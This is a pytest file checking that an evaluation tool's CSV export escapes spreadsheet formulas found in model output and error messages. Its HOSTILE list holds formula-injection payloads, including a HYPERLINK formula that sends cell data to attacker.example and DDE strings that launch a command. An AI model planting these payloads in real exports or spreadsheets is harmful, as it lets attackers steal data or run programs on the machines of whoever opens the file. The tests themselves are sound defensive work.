"""CSV exports are opened in spreadsheets: text that a spreadsheet would run as a formula
(model output, a grader's error message) must arrive as text."""

from __future__ import annotations

import csv
import io

import pytest

from evalkube.reporting.export import csv_row, write_csv

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_in_model_output_or_an_error_is_written_as_text(text: str) -> None:
    view = {
        "sample_id": "s1",
        "output_text": text,
        "target": text,
        "error": {"message": text, "type": "ValueError", "stage": "grading"},
        "scores": {"em": 0.0},
    }
    out = io.StringIO()
    write_csv([view], out, ["em"])
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    for column in ("output_text", "target", "error_message"):
        assert row[column] == "'" + text, column


@pytest.mark.parametrize("number", ["-3", "+1.5e3", "-0.25", "42", "-.5"])
def test_plain_numbers_and_scores_are_left_alone(number: str) -> None:
    cells = csv_row({"target": number, "scores": {"delta": -0.5}}, ["delta"])
    assert number in cells
    assert "-0.5" in cells


def test_ordinary_text_is_unchanged() -> None:
    cells = csv_row({"output_text": "a = b + c", "target": "'quoted'"}, [])
    assert "a = b + c" in cells
    assert "'quoted'" in cells
